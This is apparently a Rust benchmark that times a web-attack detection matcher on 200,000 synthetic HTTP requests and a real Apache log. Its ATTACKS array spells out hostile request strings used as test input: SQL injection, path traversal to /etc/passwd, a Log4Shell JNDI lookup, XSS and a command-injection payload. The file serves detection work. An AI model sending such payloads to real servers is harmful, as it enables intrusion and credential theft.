//! Release-mode speed check of `Matcher::apply` on realistic traffic: 200k requests
//! (about 99% benign: browser and crawler agents, search and internal referers, product,
//! static-asset and search URLs; 1% attacks), with the built-in pack alone and with the
//! Sigma webserver rules added. Prints on-CPU ns per request for the mix and for the
//! benign requests alone (best of three passes, since the machine is shared); then the
//! same over the 10,000 real lines of the elastic Apache log when `/work/shared/data` has it.
//!
//! `cargo run --release -p kansoku-detect --example detect_speed [-- SIGMA_DIR [DATA_DIR]]`

use std::path::PathBuf;
use std::time::Instant;

use kansoku_detect::{LoadOptions, RuleSet, example::from_line};
use kansoku_event::HttpRequest;

const N: usize = 200_000;

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.next() as usize % items.len()]
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
];

const WORDS: &[&str] = &[
    "blue", "shoes", "red", "dress", "winter", "jacket", "kids", "sale", "leather", "bag",
    "running", "women", "men", "coffee", "table", "lamp", "garden", "東京",
];

fn benign(rng: &mut Rng) -> (String, Option<String>) {
    let target = match rng.below(14) {
        0 => "/".to_string(),
        1 => format!("/products/{}", rng.below(100_000)),
        2 => format!(
            "/static/app.{:x}.{}",
            rng.below(1 << 20),
            rng.pick(&["js", "css"])
        ),
        3 => format!(
            "/search?q={}+{}&page={}",
            rng.pick(WORDS),
            rng.pick(WORDS),
            1 + rng.below(5)
        ),
        4 => format!(
            "/images/{}/{}.{}",
            rng.pick(&["products", "banners", "thumbs"]),
            rng.below(10_000),
            rng.pick(&["jpg", "png", "webp"])
        ),
        5 => format!(
            "/category/{}-{}?sort={}&page={}",
            rng.pick(WORDS),
            rng.pick(WORDS),
            rng.pick(&["price_asc", "newest", "popular"]),
            1 + rng.below(9)
        ),
        6 => format!(
            "/api/v1/items?limit=20&offset={}&fields=id,name,price",
            rng.below(50) * 20
        ),
        7 => format!(
            "/blog/2024/{:02}/{}-{}-tips.html",
            1 + rng.below(12),
            rng.pick(WORDS),
            rng.pick(WORDS)
        ),
        8 => "/favicon.ico".to_string(),
        9 => format!("/cart/add?id={}&qty=1", rng.below(9_999)),
        10 => format!(
            "/news/article-{}.html?utm_source={}&utm_medium=social&utm_campaign=spring_sale",
            rng.below(9_999),
            rng.pick(&["twitter", "facebook", "newsletter"])
        ),
        11 => "/static/fonts/inter-var.woff2".to_string(),
        12 => format!(
            "/wp-content/uploads/2023/{:02}/IMG_{}.jpg",
            1 + rng.below(12),
            rng.below(9_999)
        ),
        _ => format!(
            "/account/orders?status=shipped&from=2024-0{}-01",
            1 + rng.below(9)
        ),
    };
    let referer = match rng.below(4) {
        0 => None,
        1 => Some(format!(
            "https://www.google.com/search?q={}+{}&hl=en",
            rng.pick(WORDS),
            rng.pick(WORDS)
        )),
        _ => Some(format!(
            "https://www.example.com/products/{}",
            rng.below(100_000)
        )),
    };
    (target, referer)
}

const ATTACKS: &[&str] = &[
    "/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/.env",
    "/wp-config.php.bak",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
    "/?x=${jndi:ldap://x.example/a}",
    "/login?user=admin%27+OR+%271%27%3D%271",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
];

fn requests() -> Vec<(HttpRequest, bool)> {
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    (0..N)
        .map(|i| {
            let attack = rng.below(100) == 0;
            let (target, referer) = if attack {
                (rng.pick(ATTACKS).to_string(), None)
            } else {
                benign(&mut rng)
            };
            let method = if rng.below(20) == 0 { "POST" } else { "GET" };
            let mut req = from_line(&format!("{method} {target} HTTP/1.1"));
            req.ts = i as i64 * 10_000;
            req.src_ip = Some(format!("198.51.100.{}", rng.below(250)));
            req.user_agent = Some(rng.pick(AGENTS).to_string());
            req.referer = referer;
            req.host = Some("www.example.com".to_string());
            req.status = Some(match rng.below(20) {
                0 => 404,
                1 => 304,
                _ => 200,
            });
            (req, attack)
        })
        .collect()
}

/// CPU time of this thread, nanoseconds (the machine is shared, so wall time lies).
fn thread_cpu_ns() -> Option<u64> {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    text.split_whitespace().next()?.parse().ok()
}

/// Best-of-three on-CPU seconds for `reps` runs of `apply` over `reqs`, each run with a
/// fresh matcher so that nothing learnt in one run helps the next. (Thread CPU time is
/// only updated every scheduler tick, so a pass must last well over 4 ms.)
fn time(rules: &RuleSet, reqs: &mut [HttpRequest], reps: usize) -> (f64, usize) {
    let mut best = f64::MAX;
    let mut flagged = 0;
    for _ in 0..3 {
        let start = Instant::now();
        let cpu0 = thread_cpu_ns();
        for _ in 0..reps {
            let mut m = rules.matcher();
            for r in reqs.iter_mut() {
                // Matching is idempotent, so repeated passes over the same requests are fair.
                m.apply(r);
            }
        }
        let wall = start.elapsed().as_secs_f64();
        let secs = match (cpu0, thread_cpu_ns()) {
            (Some(a), Some(b)) if b > a => (b - a) as f64 / 1e9,
            _ => wall,
        };
        best = best.min(secs / reps as f64);
        flagged = reqs.iter().filter(|r| !r.categories.is_empty()).count();
    }
    (best, flagged)
}

/// Real traffic: one matcher over the elastic Apache log, as the pipeline would run it.
fn measure_log(name: &str, rules: &RuleSet, lines: &[HttpRequest]) {
    let mut reqs = lines.to_vec();
    let (secs, flagged) = time(rules, &mut reqs, 20);
    println!(
        "{name:<16} elastic apache log {:>5} lines  {:>5.0} ns/request (flagged {flagged})",
        reqs.len(),
        secs * 1e9 / reqs.len().max(1) as f64,
    );
}

fn measure(name: &str, rules: &RuleSet, reqs: &[(HttpRequest, bool)]) {
    let mut all: Vec<HttpRequest> = reqs.iter().map(|(r, _)| r.clone()).collect();
    let mut benign: Vec<HttpRequest> = reqs
        .iter()
        .filter(|(_, a)| !a)
        .map(|(r, _)| r.clone())
        .collect();
    let (secs, flagged) = time(rules, &mut all, 1);
    let (bsecs, bflagged) = time(rules, &mut benign, 1);
    println!(
        "{name:<16} rules {:>4}  mix {:>5.0} ns/request ({:>7.0} req/s/core, flagged {flagged} of {})  benign {:>5.0} ns/request (flagged {bflagged} of {})",
        rules.rules().len(),
        secs * 1e9 / all.len() as f64,
        all.len() as f64 / secs,
        all.len(),
        bsecs * 1e9 / benign.len() as f64,
        benign.len(),
    );
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let reqs = requests();
    let data = std::env::args()
        .nth(2)
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/work/shared/data"));
    let text = std::fs::read_to_string(data.join("access-logs/elastic-apache_logs.log"))
        .unwrap_or_default();
    let mut parser = kansoku_parse::Format::Combined.parser()?;
    let mut parsed = Vec::new();
    for (n, l) in text.lines().enumerate() {
        parser.feed(l.as_bytes(), n as u64 + 1, &mut parsed);
    }
    let log: Vec<HttpRequest> = parsed.into_iter().filter_map(|p| p.record.ok()).collect();
    let builtin = RuleSet::builtin()?;
    measure("builtin", &builtin, &reqs);
    if !log.is_empty() {
        measure_log("builtin", &builtin, &log);
    }
    let sigma = std::env::args()
        .nth(1)
        .map(PathBuf::from)
        .unwrap_or_else(|| data.join("sigma-web"));
    if sigma.is_dir() {
        let (with_sigma, warnings) = RuleSet::load(&LoadOptions {
            sigma_dirs: vec![sigma],
            ..LoadOptions::default()
        })?;
        println!("(sigma load warnings: {})", warnings.len());
        measure("builtin + sigma", &with_sigma, &reqs);
        if !log.is_empty() {
            measure_log("builtin + sigma", &with_sigma, &log);
        }
    } else {
        println!("sigma folder {} missing: skipped", sigma.display());
    }
    Ok(())
}
